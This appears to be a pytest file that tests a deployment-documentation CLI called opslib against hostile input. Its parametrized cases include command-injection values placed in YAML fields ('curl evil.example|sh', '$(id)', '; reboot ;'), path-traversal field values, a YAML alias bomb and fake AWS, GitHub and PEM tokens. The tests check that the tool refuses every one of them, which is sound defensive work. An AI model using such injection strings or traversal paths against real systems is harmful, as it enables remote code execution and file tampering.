"""Hostile input: every case of issue 22 that needs no kernel, through the `opslib` command.

Each case asserts what docs/guarantees.md ("What opslib guarantees") promises: the exit code, one message
naming the file or field (no traceback), no secret value in anything printed, nothing written
outside --out (the whole sandbox is compared before and after), the previous build/<project>/
intact, and no temporary file left (TMPDIR is a folder of the test's own, listed at the end).
Time budgets are enforced by pytest-timeout, not by timing assertions.
"""

from __future__ import annotations

import contextlib
import io
import os
import shutil
import tempfile
from pathlib import Path

import pytest
from conftest import FIXTURES, PARAMS, REPO

from opslib.catalog.secrets import classify_text
from opslib.cli import main

# fake tokens of the shapes the rules know (never real credentials)
AWS = "AKIAIOSFODNN7EXAMPLF"
GITHUB = "ghp_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"
PEM_BODY = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
TOKENS = (AWS, GITHUB, PEM_BODY)


# --- the sandbox and the run helper ---------------------------------------------------------


@pytest.fixture
def sandbox(tmp_path, monkeypatch):
    """A copy of the repository's inputs under tmp_path/repo, TMPDIR under tmp_path/tmp, and the
    working directory at repo/."""
    repo = tmp_path / "repo"
    for name in ("parameters", "examples", "deployments"):
        shutil.copytree(REPO / name, repo / name)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", None)
    monkeypatch.chdir(repo)
    return repo


def _tree(root: Path) -> dict[str, bytes | None]:
    return {p.relative_to(root).as_posix(): (p.read_bytes() if p.is_file() else None) for p in sorted(root.rglob("*"))}


def run(*argv: str, sandbox: Path, allowed: str | None = None) -> tuple[int, str, str]:
    """`opslib ARGV` in this process; asserts that nothing outside `allowed` (a folder of the
    sandbox) changed, that no temporary file is left, and that no token reached the output."""
    root = sandbox.parent
    before = {k: v for k, v in _tree(root).items() if not (allowed and k.startswith(allowed))}
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    after = {k: v for k, v in _tree(root).items() if not (allowed and k.startswith(allowed))}
    changed = sorted(k for k in before.keys() | after.keys() if not k.startswith("tmp") and before.get(k, b"-") != after.get(k, b"-"))
    assert not changed, f"written outside {allowed or 'nothing'}: {changed[:5]}"
    assert not list((root / "tmp").iterdir()), f"temporary files left: {list((root / 'tmp').iterdir())}"
    text = out.getvalue() + err.getvalue()
    assert "Traceback" not in text
    for token in TOKENS:
        assert token not in text, "a secret value was printed"
    return code, out.getvalue(), err.getvalue()


def one_message(err: str, *names: str) -> str:
    """The error output is one 'opslib: …' message (a parameters file adds one indented line per
    mistake) that names each of `names`."""
    lines = err.strip().splitlines()
    assert lines and lines[0].startswith("opslib: "), err
    assert all(ln.startswith("  ") for ln in lines[1:]), err
    for name in names:
        assert name in err, f"{name!r} not named in: {err}"
    return lines[0]


def write_params(sandbox: Path, name: str, replace: list[tuple[str, str]] | None = None, append: str = "",
                 base: str = "weather-api") -> Path:
    text = (sandbox / "parameters" / f"{base}.yaml").read_text()
    for old, new in replace or []:
        assert old in text, old
        text = text.replace(old, new, 1)
    path = sandbox / "parameters" / f"{name}.yaml"
    path.write_text(text + append)
    return path


# --- security: writes outside --out ---------------------------------------------------------


@pytest.mark.parametrize("field, value", [("project", "../../../escaped-report"), ("project", "/tmp/opslib-escaped"),
                                          ("version", "../../x"), ("environment", "prod/../../../x")])
def test_report_paths_from_the_record_stay_inside_out(sandbox, field, value):
    record = (FIXTURES / "deploy" / "results-success.yaml").read_text()
    old = {"project": "project: weather-api", "version": "version: 1.4.0", "environment": "environment: prod"}[field]
    path = sandbox / "results.yaml"
    path.write_text(record.replace(old, f"{field}: {value!r}", 1))
    code, _out, err = run("report", str(path), "--out", "out", sandbox=sandbox)
    assert code == 2
    one_message(err, "results.yaml", field)
    assert not Path("/tmp/opslib-escaped").exists()


def test_plan_version_cannot_leave_out(sandbox):
    code, _out, err = run("plan", "parameters/weather-api.yaml", "--env", "prod", "--version", "../../../../x", "--force",
                          "--out", "out", sandbox=sandbox)
    assert code == 2
    one_message(err, "--version")


# --- security: shell code from parameters ---------------------------------------------------


@pytest.mark.parametrize("old, new, field", [
    ("region: us\n", 'region: "weather-dev; curl evil.example|sh #"\n', "environments[0].region"),
    ("      dyno_size: basic", '      app: "x; curl evil.example|sh #"', "environments[0].target.app"),
    ("      dyno_size: basic", "      app: --exec=evil", "environments[0].target.app"),
    ("url: https://dev.weather-api.example.com", "url: https://dev.weather-api.example.com/$(id)", "environments[0].url"),
    ("url: https://dev.weather-api.example.com", "url: 'https://dev.weather-api.example.com/`id`'", "environments[0].url"),
    ("      path: /health", "      path: /health' ; reboot ; '", "services[0].health.path"),
    ("    artifact: slug", "    artifact: slug;rm", "services[0].artifact"),
])
def test_values_that_reach_commands_are_typed_at_load(sandbox, old, new, field):
    path = write_params(sandbox, "evil", [(old, new)])
    code, _out, err = run("validate", str(path), sandbox=sandbox)
    assert code == 2
    one_message(err, "evil.yaml", field)
    assert "evil.example" not in err and "reboot" not in err  # the value is not repeated


# --- security: secret values never reach a document or a message ----------------------------


@pytest.mark.parametrize("old, new, where", [
    ("    monthly_requests:\n", f"    {GITHUB}:\n      unit: x\n      low: 1\n      expected: 1\n      high: 2\n      description: d\n"
     "    monthly_requests:\n", "cost.drivers (a key)"),
    ("  team: Mobile Platform\n", f"  team: key_{AWS}\n", "project.team"),
    ("  team: Mobile Platform\n", "  team: !!binary |\n    " + __import__("base64").b64encode(GITHUB.encode()).decode() + "\n",
     "project.team"),
    ("      description: Heroku API token", f"      description: {PEM_BODY} Heroku API token", "secrets.items[2].description"),
    ("  team: Mobile Platform\n", f"  team: Mobile Platform\n  team: {AWS}\n", "invalid YAML"),
    ("  team: Mobile Platform\n", f"  team: Mobile Platform\n  {AWS}: x\n", "project (a key)"),
])
def test_secret_values_in_parameters_are_refused_and_never_echoed(sandbox, old, new, where):
    path = write_params(sandbox, "leak", [(old, new)])
    code, _out, err = run("validate", str(path), sandbox=sandbox)
    assert code == 2
    one_message(err, "leak.yaml", where)


@pytest.fixture
def blocked_with_token(sandbox):
    """The blocked fixture project whose blocked_reason holds a token (status.json is free text)."""
    folder = sandbox / "blocked"
    shutil.copytree(FIXTURES / "bad-params" / "blocked", folder)
    status = folder / "status.json"
    status.write_text(status.read_text().replace('"blocked_reason": "', f'"blocked_reason": "token {GITHUB} leaked; '))
    assert GITHUB in status.read_text()
    return next(folder.glob("*.yaml"))


def test_a_secret_that_reaches_a_document_is_never_written(sandbox, blocked_with_token):
    out = sandbox / "out"
    code, _o, err = run("render", str(blocked_with_token), "--out", "out", sandbox=sandbox)
    assert code == 2 and "[redacted GitHub token]" in err  # the gate's message quotes blocked_reason, redacted
    code, _o, err = run("render", str(blocked_with_token), "--out", "out", "--force", sandbox=sandbox, allowed="repo/out")
    assert code == 2
    one_message(err, "out/invoice-mailer/", "not written", "GitHub token")
    assert not any(GITHUB in p.read_text(errors="replace") for p in out.rglob("*") if p.is_file())
    code, out_text, err = run("validate", str(blocked_with_token), sandbox=sandbox)
    assert code == 0 and "--force" in out_text and "generated anyway" not in out_text


def test_write_draft_checks_every_file_before_writing(tmp_path):
    from opslib.documents.contract import Draft, write_draft
    from opslib.errors import SecretInOutput

    draft = Draft("runbook", "runbook.md", "# Runbook\n", [], files={".env.example": f"KEY={AWS}\n", "figures/a.png": b"\x89PNG"})
    with pytest.raises(SecretInOutput) as exc:
        write_draft(draft, tmp_path)
    assert ".env.example" in str(exc.value) and "AWS access key" in str(exc.value) and AWS not in str(exc.value)
    assert not list(tmp_path.iterdir())


# --- data loss and honesty: scan-secrets, billing ---------------------------------------------


def test_scan_secrets_reads_what_it_used_to_skip(sandbox):
    repo = sandbox / "scanned"
    repo.mkdir()
    (repo / ".env.big").write_text("X=1\n" * 600_000 + f"AWS_ACCESS_KEY_ID={AWS}\n")
    (repo / ".env.nul").write_bytes(b"A=\0\n" + f"AWS_ACCESS_KEY_ID={AWS}\n".encode())
    (repo / ".env.utf16").write_bytes(f"AWS_ACCESS_KEY_ID={AWS}\n".encode("utf-16"))
    (repo / "key.txt").write_text(PEM_BODY + "\n")
    code, out, _err = run("scan-secrets", str(repo), sandbox=sandbox)
    assert code == 1
    for name in (".env.big:600001", ".env.nul:2", ".env.utf16:1", "key.txt:1"):
        assert name in out


def test_scan_secrets_reports_a_file_it_cannot_read(sandbox, monkeypatch):
    from opslib.check import scan

    repo = sandbox / "scanned"
    repo.mkdir()
    (repo / "ok.txt").write_text("nothing here\n")
    (repo / "locked.env").write_text("x\n")
    real = scan._scan_file

    def locked(path, rel):
        if path.name == "locked.env":
            raise PermissionError(13, "Permission denied", str(path))
        return real(path, rel)

    monkeypatch.setattr(scan, "_scan_file", locked)
    code, out, _err = run("scan-secrets", str(repo), sandbox=sandbox)
    assert code == 2 and "locked.env: not scanned (Permission denied)" in out and "1 file(s) could not be read" in out


@pytest.fixture
def meter(sandbox):
    shutil.copytree(FIXTURES / "focus", sandbox / "focus")
    shutil.copytree(FIXTURES / "cost", sandbox / "cost")
    return sandbox / "focus"


@pytest.mark.parametrize("damage, words", [
    ("abc", ["bad.csv", "not finite numbers", "never counted as $0"]),
    ("inf", ["bad.csv", "not finite numbers"]),
    ("short", ["bad.csv", "line 6 has 5 field(s) where the header has 18"]),
])
def test_unreadable_money_stops_the_cost_report(meter, damage, words):
    lines = (meter / "spec-1.1.csv").read_text().splitlines()
    header = lines[0].split(",")
    col = header.index("EffectiveCost")
    if damage == "short":
        lines[5] = ",".join(lines[5].split(",")[:5])
    else:
        for i in range(1, len(lines), 3 if damage == "abc" else 50):
            cells = lines[i].split(",")
            cells[col] = damage
            lines[i] = ",".join(cells)
    (meter / "bad.csv").write_text("\n".join(lines) + "\n")
    code, _out, err = run("actuals", str(meter / "bad.csv"), "--params", str(meter / "meter.yaml"), "--out", "out",
                          sandbox=meter.parent, allowed="repo/out")
    assert code == 2
    one_message(err, *words)
    assert not (meter.parent / "out" / "meter" / "cost-report.md").exists()


# --- hangs: every case within a time budget ------------------------------------------------


@pytest.mark.timeout(30)
def test_yaml_alias_bomb(sandbox):
    bomb = 'x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for i in range(1, 9):
        bomb += f"x-{chr(97 + i)}: &{chr(97 + i)} [" + ",".join([f"*{chr(96 + i)}"] * 9) + "]\n"
    path = write_params(sandbox, "bomb", append=bomb)
    code, _out, err = run("validate", str(path), sandbox=sandbox)
    assert code == 2
    one_message(err, "bomb.yaml", "aliases")


@pytest.mark.timeout(30)
@pytest.mark.parametrize("size, words", [(1_000_000, ["more than the limit of 1,000,000"]), (20_000, ["project.team", "20,000 characters"])])
def test_a_huge_string_is_refused_quickly(sandbox, size, words):
    path = write_params(sandbox, "big", [("  team: Mobile Platform\n", "  team: '" + "a" * size + "'\n")])
    code, _out, err = run("validate", str(path), sandbox=sandbox)
    assert code == 2
    one_message(err, "big.yaml", *words)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("line", ["a" * 1_000_000, "a." * 500_000, "sk-" * 333_333, "x://a" * 200_000, "aB3dE5gH9kL2mN4p" * 62_500])
def test_secret_rules_and_the_candidate_rule_are_linear(line):
    from opslib.check.document import check_document

    assert classify_text(line) == []
    report = check_document("# Runbook\n\n" + line + "\n", name="runbook.md")
    assert report.findings


@pytest.mark.timeout(60)
def test_check_one_long_line_and_many_headings(sandbox):
    (sandbox / "line.md").write_text("# Runbook\n\n" + "word " * 20_000 + "\n")
    (sandbox / "headings.md").write_text("".join(f"## H{i}\n" for i in range(20_000)))
    code, out, _err = run("check", "line.md", "headings.md", "--fail-on", "never", sandbox=sandbox)
    assert code == 0 and "line.md" in out and "headings.md" in out


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_check_100000_headings(sandbox):
    (sandbox / "headings.md").write_text("".join(f"## H{i}\n" for i in range(100_000)))
    code, _out, _err = run("check", "headings.md", "--fail-on", "never", sandbox=sandbox)
    assert code == 0


@pytest.mark.timeout(30)
def test_a_fifo_is_not_read(sandbox):
    os.mkfifo(sandbox / "parameters" / "fifo.yaml")
    os.mkfifo(sandbox / "fifo.md")
    code, _out, err = run("validate", "parameters/fifo.yaml", sandbox=sandbox)
    assert code == 2
    one_message(err, "fifo.yaml", "not a regular file")
    code, _out, err = run("check", "fifo.md", sandbox=sandbox)
    assert code == 2 and "not a regular file" in err


# --- faults: one line and exit 2, never a traceback -----------------------------------------


def test_impossible_date_in_parameters_stops_only_that_project(sandbox):
    bad = write_params(sandbox, "baddate", [("as_of: 2026-11-02", "as_of: 2026-02-30")])
    code, _out, err = run("validate", str(bad), sandbox=sandbox)
    assert code == 2
    one_message(err, "baddate.yaml:13", "not a real date")
    code, out, err = run("render", str(bad), "parameters/weather-api.yaml", "--out", "out", sandbox=sandbox, allowed="repo/out")
    assert code == 2 and "weather-api.yaml: wrote" in out and "baddate.yaml:13" in err
    assert (sandbox / "out" / "weather-api" / "runbook.md").is_file()


def test_impossible_dates_in_history_and_records(sandbox):
    history = sandbox / "history.yaml"
    history.write_text("deployments:\n  - {version: 1.3.2, env: prod, date: 2026-02-30, status: success}\n")
    code, _out, err = run("plan", "parameters/weather-api.yaml", "--env", "prod", "--version", "1.5.0", "--history", str(history),
                          "--out", "out", sandbox=sandbox)
    assert code == 2
    one_message(err, "history.yaml:2", "not a real date")
    record = sandbox / "results.yaml"
    record.write_text((FIXTURES / "deploy" / "results-success.yaml").read_text().replace("2026-11-04 14:02", "2026-02-30 14:02"))
    code, _out, err = run("report", str(record), "--out", "out", sandbox=sandbox)
    assert code == 2
    one_message(err, "results.yaml", "started", "real date")


@pytest.mark.parametrize("old, new, field", [
    (None, "x: " + "[" * 5000 + "]" * 5000 + "\n", "nested"),
    ("price_usd: 95", "price_usd: 1e308", "cost.prices[0].price_usd"),
    ("price_usd: 95", "price_usd: .inf", "cost.prices[0].price_usd"),
    ("high: 0.05", "high: .inf", "cost.drivers.cache_miss_ratio.high"),
    ("{min: 2, max: 6}", "{min: 2, max: " + "9" * 400 + "}", "environments[2].replicas.max"),
    ("objective: 99.9\n", "objective: 99.99999999\n", "monitoring.slos[0].objective"),
])
def test_numbers_and_nesting_beyond_limits(sandbox, old, new, field):
    path = write_params(sandbox, "limits", [(old, new)] if old else None, append="" if old else new)
    code, _out, err = run("validate", str(path), sandbox=sandbox)
    assert code == 2
    one_message(err, "limits.yaml", field)


@pytest.mark.parametrize("command", [
    ["render", "parameters/weather-api.yaml", "--out", "afile"],
    ["batch", "parameters/weather-api.yaml", "--out", "afile", "--notebooks", str(REPO / "notebooks")],
    ["plan", "parameters/weather-api.yaml", "--env", "prod", "--version", "9.9.9", "--force", "--out", "afile"],
    ["report", str(FIXTURES / "deploy" / "results-success.yaml"), "--out", "afile"],
    ["actuals", str(FIXTURES / "focus" / "spec-1.1.csv"), "--params", str(FIXTURES / "focus" / "meter.yaml"), "--out", "afile"],
])
def test_out_that_is_a_file(sandbox, command):
    (sandbox / "afile").write_text("keep me\n")
    code, _out, err = run(*command, sandbox=sandbox)
    assert code == 2
    one_message(err, "afile", "is a file")


# --- exit codes and words -----------------------------------------------------------------


def test_batch_with_an_empty_notebooks_folder_is_bad_input(sandbox):
    (sandbox / "empty").mkdir()
    code, _out, err = run("batch", "parameters/weather-api.yaml", "--notebooks", "empty", "--out", "out", sandbox=sandbox)
    assert code == 2
    one_message(err, "empty", "no notebooks")


def test_export_pdf_refuses_what_is_not_html(sandbox):
    (sandbox / "bin.html").write_bytes(os.urandom(3000))
    code, _out, err = run("export-pdf", "bin.html", sandbox=sandbox)
    assert code == 2
    one_message(err, "bin.html", "not an HTML page")
    assert not (sandbox / "bin.pdf").exists()


def test_check_on_a_folder(sandbox):
    code, _out, err = run("check", "parameters", sandbox=sandbox)
    assert code == 2
    one_message(err, "parameters", "is a folder")


def test_a_failing_check_names_the_final_file_not_the_staging_folder(sandbox, monkeypatch):
    from opslib.check.findings import Finding
    from opslib.documents import runbook

    real = runbook.draft

    def failing(*args, **kwargs):
        d = real(*args, **kwargs)
        return type(d)(d.doc, d.file, d.text, [*d.findings, Finding("an item", "fail", "made to fail", None, "runbook")], d.files, d.model)

    monkeypatch.setattr(runbook, "draft", failing)
    (sandbox / "out" / "weather-api").mkdir(parents=True)
    (sandbox / "out" / "weather-api" / "runbook.md").write_text("previous\n")
    code, _out, err = run("render", "parameters/weather-api.yaml", "--out", "out", sandbox=sandbox, allowed="repo/out")
    assert code == 1
    assert f"{Path('out') / 'weather-api' / 'runbook.md'}: 1 quality-bar check(s) failed" in err and ".tmp" not in err
    assert (sandbox / "out" / "weather-api" / "runbook.md").read_text() == "previous\n"
    kept = sandbox / "out" / "weather-api.failed" / "runbook.md"  # the failing draft, beside the build folder, marked
    assert f"The failing draft is in {Path('out') / 'weather-api.failed' / 'runbook.md'}" in err
    lines = kept.read_text().splitlines()
    assert lines[0].startswith("> **FAILING DRAFT — runbook.md failed 1 quality-bar check(s)") and "> - [an item] made to fail" in lines
    assert "# Runbook: weather-api" in lines


def test_every_error_is_printed_redacted(capsys):
    from opslib.cli import _err

    _err(f"status.json: blocked ({GITHUB}); resolve it")
    err = capsys.readouterr().err
    assert GITHUB not in err and "[redacted GitHub token]" in err


def test_golden_commands_are_unchanged_by_shell_quoting():
    """Every command of every example, rendered with quoting, equals the unquoted rendering:
    the examples' values are all inert, so the golden documents cannot change."""
    from opslib.core import templates
    from opslib.documents.commands import command_context
    from opslib.params.models import load_params

    seen = 0
    for path in sorted(PARAMS.glob("*.yaml")):
        params = load_params(path)
        platform = params.catalog.platform(params.platform)
        raw = [*platform.prerequisites, *platform.verify, *[s for steps in platform.deploy.values() for s in steps]]
        for env in params.environments:
            ctx = command_context(params, env, platform)
            for item in [None, *(("service", s) for s in params.services)]:
                local = {**ctx, **({item[0]: item[1]} if item else {})}
                for step in raw:
                    if not step.command:
                        continue
                    try:
                        plain = templates.render_string(step.command, local)
                    except Exception:  # a for_each step without its service: not this combination
                        continue
                    assert templates.render_string(step.command, local, shell=True) == plain
                    seen += 1
    assert seen > 100
